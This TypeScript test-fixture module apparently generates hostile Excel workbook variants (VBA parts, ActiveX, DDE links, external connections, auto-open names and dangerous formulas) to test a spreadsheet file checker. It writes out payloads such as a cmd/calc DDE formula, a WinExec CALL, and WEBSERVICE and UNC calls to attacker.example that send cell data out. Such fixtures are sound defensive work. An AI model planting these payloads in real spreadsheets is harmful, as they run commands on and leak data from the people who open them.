import { type HostileFile, type Sample, withParts, withXml } from './hostile-file.ts'

const parts: readonly (readonly [string, string])[] = [
  ['xl/vbaProject.bin', 'x'],
  ['xl/VBAPROJECT.BIN', 'x'],
  ['xl/macrosheets/sheet1.xml', '<xm:macrosheet/>'],
  ['xl/externalLinks/externalLink1.xml', '<externalLink><externalBook/></externalLink>'],
  [
    'xl/externalLinks/externalLink2.xml',
    '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
  ],
  ['xl/externalLinks/externalLink3.xml', '<externalLink><oleLink progId="Word.Document"/></externalLink>'],
  ['xl/embeddings/oleObject1.bin', 'x'],
  ['xl/embeddings/Microsoft_Word_Document.docx', 'x'],
  ['xl/activeX/activeX1.xml', '<ax:ocx/>'],
  ['xl/activeX/activeX1.bin', 'x'],
  ['xl/ctrlProps/ctrlProp1.xml', '<formControlPr/>'],
  ['xl/dialogsheets/sheet1.xml', '<dialogsheet/>'],
  [
    'xl/connections.xml',
    '<connections><connection><webPr url="http://attacker.example/"/></connection></connections>',
  ],
  ['xl/queryTables/queryTable1.xml', '<queryTable/>'],
  ['xl/webextensions/webextension1.xml', '<we:webextension/>'],
  ['customUI/customUI14.xml', '<customUI onLoad="run"/>'],
]

const formulas = [
  `cmd|' /C calc'!A0`,
  'WEBSERVICE("http://attacker.example/?" &amp; A1)',
  'HYPERLINK("file:///etc/passwd","x")',
  'CALL("kernel32","WinExec","JCJ","calc",0)',
  "'\\\\attacker.example\\share\\[x.xlsx]S'!A1",
  'INDIRECT("A1")',
]

/** Macros, links, embedded objects and formulas. */
export function activeContent(sample: Sample): HostileFile[] {
  const inMachine = (formula: string) =>
    withXml(sample, sample.machine, (xml) => xml.replace('<v>', `<f>${formula}</f><v>`))
  const shown = 'xl/worksheets/sheet1.xml'
  return [
    ...parts.map(([name, content]) => ({
      name: `the part ${name}`,
      make: () => withParts(sample, [{ name, content: Buffer.from(content) }]),
    })),
    ...formulas.flatMap((formula) => [
      { name: `the formula ${formula} among the records`, make: () => inMachine(formula) },
      {
        name: `the formula ${formula} in a visible cell`,
        make: () =>
          withXml(sample, shown, (xml) =>
            xml.replace(
              '</sheetData>',
              `<row r="900"><c r="A900"><f>${formula}</f><v>1</v></c></row></sheetData>`,
            ),
          ),
        isHarmless: true,
      },
    ]),
    {
      name: 'an array formula among the records',
      make: () =>
        withXml(sample, sample.machine, (xml) =>
          xml.replace('<v>', '<f t="array" ref="A1:XFD1048576">1</f><v>'),
        ),
    },
    {
      name: 'a name that runs when the file is opened',
      make: () =>
        withXml(sample, 'xl/workbook.xml', (xml) =>
          xml.replace(
            '</definedNames>',
            '<definedName name="_xlnm.Auto_Open">A1:XFD1048576</definedName></definedNames>',
          ),
        ),
      isHarmless: true,
    },
    {
      name: 'macros announced by the content types alone',
      make: () =>
        withXml(sample, '[Content_Types].xml', (xml) =>
          xml.replaceAll('spreadsheetml.sheet.main', 'ms-excel.sheet.macroEnabled.main'),
        ),
      isHarmless: true,
    },
    {
      name: 'a picture that is fetched from elsewhere',
      make: () =>
        withParts(sample, [
          {
            name: 'xl/drawings/_rels/drawing99.xml.rels',
            content: Buffer.from(
              '<Relationships><Relationship Id="a" TargetMode="External" Target="http://attacker.example/p.png"/></Relationships>',
            ),
          },
        ]),
      isHarmless: true,
    },
  ]
}
